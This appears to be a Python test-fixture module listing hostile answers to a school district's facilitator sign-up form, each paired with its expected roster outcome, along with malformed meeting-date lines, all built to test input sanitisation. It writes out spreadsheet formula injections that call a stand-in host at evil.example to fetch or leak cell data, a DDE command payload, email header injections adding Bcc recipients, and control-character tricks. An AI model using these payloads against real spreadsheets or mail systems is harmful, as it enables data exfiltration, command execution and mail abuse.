"""Hostile answers a facilitator form can receive, each with why it is hostile and what the
roster must hold afterwards.

Every entry is one response from its own facilitator, so each becomes its own team (or its
own refusal). `answers` override a plain, valid response field by field (form field names
as in `[form.questions]`); `email` is the respondent's verified address as Google would
record it. The outcome is one of:

- KEPT: the team is on the roster and every cell in `roster` holds exactly that text;
  no error is raised for the response.
- ALTERED: the team is on the roster with the documented normalisation applied (`roster`
  holds the altered text) and a Problems row for `field` says why (`because` is part of
  its reason).
- REFUSED: the response cannot be used: no roster row, and an error Problems row for
  `field` says why.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Mapping

KEPT, ALTERED, REFUSED = "kept", "altered", "refused"
DOMAIN = "belmont.example.org"

# The documented reasons (forms/validate.py, forms/members.py) an altered answer carries.
SPACED = "line breaks and tabs were replaced by spaces"
CONTROL_REMOVED = "invisible control character"
CUT = "the most a spreadsheet cell holds"
NOT_AN_EMAIL = "is not a valid email address"
OUTSIDE = "is outside the allowed domains"
TWICE = "is listed more than once"

LONG_50000 = ("Close reading across the grades. " * 1600)[:50_000]
LONG_50001 = LONG_50000 + "!"
LONG_NAME = "Ana " + "x" * 49_996
STAFF_DIRECTORY = "\n".join(f"Staff Member {n} <m-staff-directory.{n}@{DOMAIN}>" for n in range(240))


@dataclass(frozen=True)
class Hostile:
    key: str                     # also the facilitator's mailbox name, so each entry is its own team
    why: str
    answers: Mapping[str, str] = field(default_factory=dict)
    outcome: str = KEPT
    roster: Mapping[str, str] = field(default_factory=dict)   # Roster header -> exact text expected
    field: str = ""              # the field a Problems row names (ALTERED / REFUSED)
    because: str = ""            # part of that row's reason
    email: str = ""              # respondent email; default `<key>@belmont.example.org`

    @property
    def respondent(self) -> str:
        return self.email or f"{self.key}@{DOMAIN}"


def kept(key: str, why: str, **answers: str) -> Hostile:
    """An answer that must reach the roster exactly as typed."""
    return Hostile(key, why, answers, KEPT, {_HEADERS[f]: v for f, v in answers.items() if f in _HEADERS})


_HEADERS = {"team_name": "Team name", "topic": "Topic", "facilitator_name": "Facilitator",
            "meeting_time": "Meeting time"}

CORPUS: tuple[Hostile, ...] = (
    # Formula triggers: Sheets must hold each as text, never evaluate it.
    kept("f-equals", "a leading = makes a formula when typed into a cell", team_name="=1+1"),
    kept("f-plus", "a leading + is read as a formula by spreadsheet software", team_name="+1+1"),
    kept("f-minus", "a leading - is read as a formula or a negative number", team_name="-2+3"),
    kept("f-at", "a leading @ is read as a function call by some spreadsheet software",
         team_name="@SUM(A1:A2)"),
    kept("f-importxml", "IMPORTXML would fetch a URL of the attacker's choice",
         topic='=IMPORTXML("http://evil.example/x","//a")'),
    kept("f-hyperlink", "HYPERLINK would put a disguised link on the coordinator's roster",
         topic='=HYPERLINK("http://evil.example/steal","Open charter")'),
    kept("f-importdata", "IMPORTDATA could leak other cells to a URL",
         team_name='=IMPORTDATA("http://evil.example/?"&B2)'),
    kept("f-dde", "a DDE payload some spreadsheet software runs as a command",
         team_name="=cmd|' /C calc'!A0"),
    kept("f-now", "a volatile formula in a meeting time", meeting_time="=NOW()"),
    kept("f-name", "a formula as the facilitator's name", facilitator_name='=CONCAT("Ana","Lopez")'),
    kept("f-apostrophe", "typed into a cell, a leading apostrophe would be eaten", topic="'=1+1"),
    kept("f-true", "TRUE typed into a cell becomes a boolean", team_name="TRUE"),
    kept("f-leading-zeros", "0042 typed into a cell becomes the number 42", meeting_time="0042"),
    kept("f-thousands", "1,000 typed into a cell becomes a number", team_name="1,000"),
    kept("f-date", "3/4/2018 typed into a cell becomes a date", meeting_time="3/4/2018"),
    kept("f-percent", "50% typed into a cell becomes a percentage", team_name="50%"),
    kept("f-mid-tab", "a tab inside a multi-line answer followed by a formula", topic="Goals:\t=1+1"),
    Hostile("f-tab", "a leading tab hides a formula from naive checks", {"topic": "\t=1+1"}, KEPT,
            {"Topic": "=1+1"}),
    Hostile("f-cr", "a leading carriage return hides a formula from naive checks", {"topic": "\r=2+2"}, KEPT,
            {"Topic": "=2+2"}),
    Hostile("f-member-name", "a formula as a member's name", {"members": f"=1+1 <f-member-name.m@{DOMAIN}>"}, KEPT,
            {"Members": f"=1+1 <f-member-name.m@{DOMAIN}>"}),
    # Header injection: a line break in a name that reaches an email header.
    Hostile("h-team-bcc", "CR LF in a team name would add a Bcc header to a reminder",
            {"team_name": "Lopez PLT\r\nBcc: victim@evil.example"}, ALTERED,
            {"Team name": "Lopez PLT Bcc: victim@evil.example"}, "team_name", SPACED),
    Hostile("h-name-bcc", "CR LF in the facilitator's name would add a Bcc header",
            {"facilitator_name": "Ana\r\nBcc: victim@evil.example"}, ALTERED,
            {"Facilitator": "Ana Bcc: victim@evil.example"}, "facilitator_name", SPACED),
    Hostile("h-name-subject", "LF in the facilitator's name would start a Subject header",
            {"facilitator_name": "Ana\nSubject: you won"}, ALTERED,
            {"Facilitator": "Ana Subject: you won"}, "facilitator_name", SPACED),
    Hostile("h-team-cr", "a bare CR in a team name", {"team_name": "PLT\rX-Injected: 1"}, ALTERED,
            {"Team name": "PLT X-Injected: 1"}, "team_name", SPACED),
    Hostile("h-team-ls", "the Unicode line separator is a line break to some mail software",
            {"team_name": "Lopez PLT\u2028Bcc: victim@evil.example"}, ALTERED,
            {"Team name": "Lopez PLT Bcc: victim@evil.example"}, "team_name", SPACED),
    Hostile("h-team-nel", "NEL (U+0085) is a line break to some mail software",
            {"team_name": "Lopez PLT\x85Bcc: victim@evil.example"}, ALTERED,
            {"Team name": "Lopez PLT Bcc: victim@evil.example"}, "team_name", SPACED),
    kept("h-topic-crlf", "a multi-line topic keeps its lines; it never reaches a header",
         topic="Close reading\r\nBcc: victim@evil.example"),
    kept("h-encoded-word", "an RFC 2047 encoded word that decodes to a line break",
         facilitator_name="Ana =?utf-8?q?=0D=0ABcc:_victim@evil.example?="),
    kept("h-team-encoded", "an encoded word in a team name (it reaches the Subject)",
         team_name="=?utf-8?b?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?="),
    Hostile("h-email-crlf", "CR LF in the respondent address would add a recipient", outcome=REFUSED,
            field="facilitator_email", because=NOT_AN_EMAIL,
            email=f"h-email-crlf@{DOMAIN}\r\nBcc: victim@evil.example"),
    Hostile("h-member-bcc", "a member line that looks like a Bcc header is just an outside address",
            {"members": f"Sam Lee <h-member-bcc.m@{DOMAIN}>\r\nBcc: victim@evil.example"}, ALTERED, {},
            "members", OUTSIDE),
    # Very long answers.
    kept("l-50000", "exactly a cell's 50,000 characters", topic=LONG_50000),
    Hostile("l-50001", "one character past what a cell holds", {"topic": LONG_50001}, ALTERED,
            {"Topic": LONG_50000}, "topic", CUT),
    Hostile("l-team-60000", "a 60,000-character team name (it also reaches a Subject)",
            {"team_name": "T" * 60_000}, ALTERED, {"Team name": "T" * 50_000}, "team_name", CUT),
    kept("l-name-50000", "a 50,000-character facilitator name (it reaches the To header)",
         facilitator_name=LONG_NAME),
    # Scripts, direction marks, zero-width characters and emoji.
    kept("u-arabic", "right-to-left script", team_name="فريق القراءة المشتركة"),
    kept("u-hebrew", "right-to-left script", team_name="צוות קריאה", facilitator_name="נועה כהן"),
    kept("u-accents", "accented Latin letters", facilitator_name="José Müller-Ñúñez"),
    kept("u-zwsp", "a zero-width space inside a word", team_name="Reading\u200bTeam"),
    kept("u-rlm", "a right-to-left mark", team_name="\u200fRTL mark team"),
    kept("u-rlo", "a right-to-left override that disguises text", team_name="Team \u202eevil\u202c done"),
    kept("u-emoji", "emoji with skin tone and zero-width joiners", topic="📚🧠 Close reading 👩🏽‍🏫"),
    kept("u-emoji-name", "an emoji in a name that reaches the To header", facilitator_name="👩🏽‍🏫 Ana"),
    kept("u-bom", "a byte-order mark at the start", team_name="\ufeffBOM team"),
    kept("u-combining", "a decomposed accent must not be recomposed", team_name="Cafe\u0301 PLT"),
    kept("u-astral", "letters outside the Basic Multilingual Plane", team_name="𝕿𝖊𝖆𝖒 𝕻𝕷𝕿"),
    kept("u-cjk", "Chinese, Japanese and Korean text", topic="中文 日本語 한국어"),
    kept("u-zwj-name", "a zero-width joiner in a name (Indic scripts need it)", facilitator_name="क्‍ष Rao"),
    # NUL and other control characters.
    Hostile("c-nul-team", "NUL cannot be stored in a cell", {"team_name": "Lopez\x00PLT"}, ALTERED,
            {"Team name": "LopezPLT"}, "team_name", CONTROL_REMOVED),
    Hostile("c-nul-topic", "several NULs in a multi-line answer", {"topic": "a\x00b\x00c"}, ALTERED,
            {"Topic": "abc"}, "topic", CONTROL_REMOVED),
    Hostile("c-escape", "a terminal escape sequence in a name", {"facilitator_name": "Ana\x1b[31mRed"}, ALTERED,
            {"Facilitator": "Ana[31mRed"}, "facilitator_name", CONTROL_REMOVED),
    Hostile("c-del", "DEL character", {"team_name": "\x7fDEL team"}, ALTERED,
            {"Team name": "DEL team"}, "team_name", CONTROL_REMOVED),
    Hostile("c-vtab", "a vertical tab in a single-line answer", {"meeting_time": "Tue\x0b3pm"}, ALTERED,
            {"Meeting time": "Tue 3pm"}, "meeting_time", SPACED),
    # Emails: oddly cased, invalid, outside the domain.
    Hostile("e-upper", "an oddly cased address is the same mailbox", outcome=KEPT,
            email="E-Upper@Belmont.Example.ORG", roster={"Facilitator email": f"e-upper@{DOMAIN}"}),
    Hostile("e-space", "a space inside an address", outcome=REFUSED, field="facilitator_email",
            because=NOT_AN_EMAIL, email=f"e space@{DOMAIN}"),
    Hostile("e-double-at", "two @ signs", outcome=REFUSED, field="facilitator_email", because=NOT_AN_EMAIL,
            email=f"e-double-at@@{DOMAIN}"),
    Hostile("e-no-tld", "a domain without a dot", outcome=REFUSED, field="facilitator_email",
            because=NOT_AN_EMAIL, email="e-no-tld@belmont"),
    Hostile("e-smuggled", "an address hiding a second domain", outcome=REFUSED, field="facilitator_email",
            because=NOT_AN_EMAIL, email=f"e-smuggled@evil.example?@{DOMAIN}"),
    Hostile("e-formula", "a formula as the address", outcome=REFUSED, field="facilitator_email",
            because=NOT_AN_EMAIL, email=f'=HYPERLINK("x")@{DOMAIN}'),
    Hostile("e-accent", "an accented address", outcome=REFUSED, field="facilitator_email",
            because=NOT_AN_EMAIL, email=f"ñandú@{DOMAIN}"),
    Hostile("e-outside", "a facilitator outside the district", outcome=ALTERED, field="facilitator_email",
            because=OUTSIDE, email="e-outside@gmail.example", roster={"Facilitator email": "e-outside@gmail.example"}),
    Hostile("e-lookalike", "a domain that only starts like the district's", outcome=ALTERED,
            field="facilitator_email", because=OUTSIDE, email=f"e-lookalike@{DOMAIN}.evil.example",
            roster={"Facilitator email": f"e-lookalike@{DOMAIN}.evil.example"}),
    # Members: invalid, duplicated, outside the domain.
    Hostile("m-invalid", "a member with a broken address",
            {"members": f"Sam Lee <m-invalid.m@{DOMAIN}>\nBob <bob@@{DOMAIN}>"}, ALTERED,
            {}, "members", NOT_AN_EMAIL),
    Hostile("m-duplicate", "the same member twice, differently cased",
            {"members": f"Sam Lee <m-duplicate.m@{DOMAIN}>\nSam Lee <M-DUPLICATE.M@{DOMAIN.upper()}>"}, ALTERED,
            {"Members": f"Sam Lee <m-duplicate.m@{DOMAIN}>"}, "members", TWICE),
    Hostile("m-outside", "a member outside the district",
            {"members": f"Sam Lee <m-outside.m@{DOMAIN}>\nEve <eve@evil.example>"},
            ALTERED, {"Members": f"Sam Lee <m-outside.m@{DOMAIN}>\nEve <eve@evil.example>"}, "members", OUTSIDE),
    Hostile("m-mailto", "a member written as a mailto link", {"members": f"mailto:m-mailto.m@{DOMAIN}"}, KEPT,
            {"Members": f"m-mailto.m@{DOMAIN}"}),
    Hostile("m-bracketed-name", "a member whose name ends in a bracket of its own",
            {"members": f"Sam Lee (Math) <m-bracketed-name.m@{DOMAIN}>"}, KEPT,
            {"Members": f"Sam Lee (Math) <m-bracketed-name.m@{DOMAIN}>"}),
    Hostile("m-none-usable", "no usable member at all", {"members": "=1+1 <not an address>"}, REFUSED,
            field="members", because="no usable member"),
    Hostile("m-staff-directory", "a pasted staff directory would share the folder with, and remind, everyone",
            {"members": STAFF_DIRECTORY}, REFUSED, field="members",
            because="lists 240 people, making a team of 241; a team has at most 30 ([roster] max_people)"),
)


@dataclass(frozen=True)
class HostileMeeting:
    """A line of a work group's meeting dates that names no meeting: it must become a
    Problems row quoting it (`because` is part of the reason), never a guess or a crash."""

    line: str
    why: str
    because: str


MEETING_LINES: tuple[HostileMeeting, ...] = (
    HostileMeeting("TBD", "no date, no time", "no time range"),
    HostileMeeting("Tuesdays after school", "a habit, not a time", "no time range"),
    HostileMeeting("2017-09-12", "a date without its hours", "no time range"),
    HostileMeeting("2017-02-30 15:30-16:15", "a day February does not have", "no date"),
    HostileMeeting("2017-09-12 16:15-15:30", "ends before it starts", "ends before it starts"),
    HostileMeeting("2017-09-12 25:00-26:00", "hours a day does not have", "not two clock times"),
    HostileMeeting("2017-09-12 6:00-23:00", "a meeting longer than a working day", "longer than 12 hours"),
    HostileMeeting("every Funday 15:30-16:15", "a weekday that does not exist", "names no weekday"),
    HostileMeeting("every Tuesday 15:30-16:15 from 2018-05-01 to 2017-09-01", "a series that ends before it starts",
                   "before it starts"),
    HostileMeeting("every Monday 15:30-16:15 from 1900-01-01 to 9999-12-31", "a series with no end in sight",
                   "longer than two years"),
    HostileMeeting("every other Tuesday 15:30-16:15 from 2017-09-13 to 2017-09-14", "a series with no meeting in it",
                   "has no Tuesday"),
    HostileMeeting("every Tuesday 15:30-16:15 starting soon", "words where the dates should be", "was expected"),
    HostileMeeting("=IMPORTRANGE(\"x\",\"A1\") 15:30-16:15", "a formula instead of a date", "no date"),
    HostileMeeting("2017-09-12 15:30-16:15 " + "x" * 300, "a pasted essay", "longer than 200 characters"),
    HostileMeeting("every\x00 Tuesday 15:30-16:15", "a control character inside the phrase", "no date"),
)
